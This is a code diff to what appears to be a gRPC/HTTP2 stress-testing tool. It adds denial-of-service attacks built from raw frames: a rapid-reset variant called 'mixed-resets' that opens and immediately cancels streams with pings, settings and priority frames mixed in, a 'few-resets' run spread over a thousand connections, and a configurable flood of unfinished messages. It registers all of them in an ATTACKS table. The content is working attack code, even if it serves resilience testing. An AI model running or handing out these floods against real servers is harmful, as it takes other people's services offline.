@@ -20,6 +20,7 @@ from raw_http2 import (
     END_HEADERS,
     HEADERS,
     PING,
+    PRIORITY,
     RST_STREAM,
     SETTINGS,
     WINDOW_UPDATE,
@@ -81,19 +82,19 @@ async def _until_answered(raw: Raw, stream: int, data: bytes) -> None:
         sending.cancel()
 
 
-def _unfinished(*, is_known: bool) -> Attack:
+def _unfinished(*, is_known: bool, connections: int = 40, messages: int = 100) -> Attack:
     async def flood(target: Target) -> None:
         block, begun = head(_CALL, *_key(target, is_known)), message(bytes(60_000))[:-1]
 
         async def once(_: int) -> None:
             async with _connected(target) as raw:
-                for stream in range(1, 200, 2):
+                for stream in range(1, 2 * messages, 2):
                     raw.say(frame(HEADERS, END_HEADERS, stream, block))
                     await raw.upload(stream, begun)
                     target.tally["messages"] += 1
                 await raw.closed.wait()
 
-        await by_many(target, 40, once)
+        await by_many(target, connections, once)
 
     return flood
 
@@ -123,6 +124,49 @@ def _resets(block: bytes) -> Iterator[bytes]:
             frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
             for stream in range(first, first + 400, 2)
         )
+
+
+async def mixed_resets(target: Target) -> None:
+    """Calls given up at once of methods that ask for no key, and with messages, pings, settings and priorities between."""
+    between = frame(PING, payload=bytes(8)) + frame(SETTINGS)
+    paths = (
+        _CREATE,
+        _STREAM,
+        _CALL,
+        "/grpc.health.v1.Health/Check",
+        "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
+    )
+    blocks = [head(path) for path in paths]
+
+    def call(stream: int) -> bytes:
+        said = frame(HEADERS, END_HEADERS, stream, blocks[stream // 2 % len(blocks)])
+        said += frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1)) + frame(DATA, 0, stream, message(bytes(stream % 40)))
+        return said + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+
+    async def once(_: int) -> None:
+        async with _connected(target) as raw:
+            for first in itertools.count(1, 100):
+                if raw.closed.is_set():
+                    return
+                await raw.send(between + b"".join(map(call, range(first, first + 100, 2))))
+                target.tally["calls"] += 50
+
+    await by_many(target, 4, once)
+
+
+async def few_resets(target: Target) -> None:
+    """Over each of a thousand connections no more calls than anybody may leave."""
+    said = next(_resets(head(_CREATE)))
+    few = said[: len(said) // 10]
+
+    async def once(_: int) -> None:
+        async with _connected(target) as raw:
+            await raw.send(few)
+            target.tally["calls"] += 20
+            with contextlib.suppress(TimeoutError):
+                await asyncio.wait_for(raw.closed.wait(), 2)
+
+    await by_many(target, 1000, once)
 
 
 def _rapid_reset(*, is_known: bool) -> Attack:
@@ -200,9 +244,12 @@ ATTACKS: Mapping[str, Attack] = {
     "grpc-heads-known": _heads(is_known=True),
     "grpc-unfinished": _unfinished(is_known=False),
     "grpc-unfinished-known": _unfinished(is_known=True),
+    "grpc-unfinished-spread": _unfinished(is_known=True, connections=1000, messages=4),
     "grpc-compressed": compressed,
     "rapid-reset": _rapid_reset(is_known=False),
     "rapid-reset-known": _rapid_reset(is_known=True),
+    "mixed-resets": mixed_resets,
+    "few-resets": few_resets,
     "continuations": _frames(_CONTINUATIONS),
     "headers": _frames(*_HEADERS),
     "control-frames": _frames(*_CONTROL),
